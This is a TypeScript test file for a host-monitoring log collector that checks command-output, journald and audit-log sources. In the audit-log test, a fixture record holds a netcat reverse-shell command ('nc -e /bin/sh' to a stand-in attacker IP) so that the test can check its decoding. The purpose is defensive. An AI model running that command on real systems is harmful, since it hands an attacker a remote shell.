import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createLogger, type RawEvent } from '@vigil/common';
import { waitFor } from '@vigil/common/testing';
import { SpoolStore } from '../adapters/spool-store.ts';
import { CommandSource } from './command-output.ts';
import { JournalSource } from './journal.ts';
import { AuditLogSource } from './audit-log.ts';
import { hex, sudoViRecords } from '../../test/audit-fixtures.ts';

const logger = createLogger({ level: 'silent' });
const cleanups: Array<() => Promise<void> | void> = [];
after(async () => {
  for (const c of cleanups.reverse()) await c();
});

function setup() {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-src-'));
  const spool = new SpoolStore(join(dir, 'spool.db'), { id: 'a1', name: 'h1' }, 1 << 30);
  cleanups.push(() => {
    spool.close();
    rmSync(dir, { recursive: true, force: true });
  });
  return { dir, spool, events: () => spool.peek(10_000).map((e) => JSON.parse(e.data) as RawEvent) };
}

test('command output, per line and whole (full_command), on an interval; a command that cannot run is reported', async () => {
  const { spool, events } = setup();
  const sources = [
    new CommandSource({ command: { command: 'printf "a\\nb\\n"', alias: 'two-lines', frequencySeconds: 1, full: false, timeoutSeconds: 5 }, spool, logger, maxLineBytes: 1000 }),
    new CommandSource({ command: { command: 'printf "x\\ny\\n"', alias: 'whole', frequencySeconds: 60, full: true, timeoutSeconds: 5 }, spool, logger, maxLineBytes: 1000 }),
    new CommandSource({ command: { command: 'sleep 5', alias: 'slow', frequencySeconds: 60, full: false, timeoutSeconds: 1 }, spool, logger, maxLineBytes: 1000 }),
  ];
  for (const s of sources) await s.start();
  cleanups.push(async () => {
    for (const s of sources) await s.stop();
  });
  await waitFor(() => events().filter((e) => e.location === 'two-lines').length >= 4 || undefined, 5000, 'two runs of the command');
  await waitFor(() => events().some((e) => e.log?.includes('command_failed')) || undefined, 5000, 'the timeout reported');
  const logs = events().map((e) => e.log);
  assert.deepEqual(logs.filter((l) => l?.includes("'two-lines'")).slice(0, 4), [
    "ossec: output: 'two-lines': a",
    "ossec: output: 'two-lines': b",
    "ossec: output: 'two-lines': a",
    "ossec: output: 'two-lines': b",
  ]);
  assert.deepEqual(logs.filter((l) => l?.includes("'whole'")), ["ossec: output: 'whole':\nx\ny"]);
  assert.ok(logs.some((l) => l?.startsWith("vigil-collector: command_failed: 'slow'")));
});

test('journal: entries become syslog lines, and the cursor is kept so a restart resumes after the last entry', async () => {
  const { dir, spool, events } = setup();
  // A stand-in for journalctl that records its arguments and prints two entries (journald does not run here).
  const fake = join(dir, 'journalctl');
  const argsFile = join(dir, 'args');
  const entry = (n: number) => JSON.stringify({ __CURSOR: `s=1;i=${n}`, __REALTIME_TIMESTAMP: '1767225600000000', _HOSTNAME: 'node-1', SYSLOG_IDENTIFIER: 'sshd', _PID: '7', MESSAGE: `message ${n}` });
  writeFileSync(fake, `#!/bin/sh\necho "$@" >> ${argsFile}\necho '${entry(1)}'\necho '${entry(2)}'\nexec sleep 30\n`);
  chmodSync(fake, 0o755);
  const first = new JournalSource({ config: { enabled: true, units: ['ssh.service'] }, spool, logger, maxLineBytes: 1000, binary: fake });
  await first.start();
  await waitFor(() => events().length === 2 || undefined, 3000, 'two entries');
  await first.stop();
  assert.match(events()[0]?.log ?? '', /^\w{3} [ \d]\d \d\d:\d\d:\d\d node-1 sshd\[7\]: message 1$/);
  assert.equal(events()[0]?.location, 'journald');
  const second = new JournalSource({ config: { enabled: true, units: [] }, spool, logger, maxLineBytes: 1000, binary: fake });
  await second.start();
  await waitFor(() => readFileSync(argsFile, 'utf8').split('\n').length >= 3 || undefined, 3000, 'the second run');
  await second.stop();
  const runs = readFileSync(argsFile, 'utf8').trim().split('\n');
  assert.equal(runs[0], '-o json --follow --no-pager --lines 0 -u ssh.service');
  assert.equal(runs[1], '-o json --follow --no-pager --after-cursor s=1;i=2');
});

test('journal: journalctl missing is reported once, and the collector goes on', async () => {
  const { spool, events } = setup();
  const source = new JournalSource({ config: { enabled: true, units: [] }, spool, logger, maxLineBytes: 1000, binary: '/nonexistent/journalctl', restartDelayMs: 50 });
  await source.start();
  await new Promise((r) => setTimeout(r, 400));
  await source.stop();
  assert.deepEqual(events().map((e) => e.log?.split(':').slice(0, 2).join(':')), ['vigil-collector: journal_unavailable']);
});

test('audit log as a source: records merged by serial, hex fields decoded, offset kept', async () => {
  const { dir, spool, events } = setup();
  const log = join(dir, 'audit.log');
  writeFileSync(log, sudoViRecords(1).join('\n') + '\n');
  const source = new AuditLogSource({ path: log, spool, logger, pollMs: 20 });
  await source.start();
  const stamp = 'audit(1732780900.000:9)';
  appendFileSync(
    log,
    [
      `type=SYSCALL msg=${stamp}: arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1 pid=2 auid=1000 uid=0 gid=0 euid=0 comm="nc" exe="/usr/bin/nc.openbsd" key="exec"`,
      `type=EXECVE msg=${stamp}: argc=3 a0="nc" a1=${hex('-e /bin/sh')} a2="203.0.113.5"`,
      `type=PROCTITLE msg=${stamp}: proctitle=${hex('nc\u0000-e /bin/sh\u0000203.0.113.5')}`,
    ].join('\n') + '\n',
  );
  await waitFor(() => events().length === 1 || undefined, 3000, 'one audit event');
  await source.stop();
  const [e] = events();
  assert.equal(e?.kind, 'audit');
  assert.equal(e?.location, 'audit');
  const audit = (e?.payload as { audit: Record<string, unknown> }).audit;
  assert.deepEqual(audit['execve'], { argc: 3, args: ['nc', '-e /bin/sh', '203.0.113.5'], command: 'nc -e /bin/sh 203.0.113.5' });
  assert.equal(audit['proctitle'], 'nc -e /bin/sh 203.0.113.5');
  assert.equal(audit['key'], 'exec');
  assert.ok(e?.log?.startsWith('type=SYSCALL msg=audit(1732780900.000:9)'));
  assert.deepEqual(spool.checkpoint<{ offset: number }>('audit:offset')?.offset, readFileSync(log).length);
});
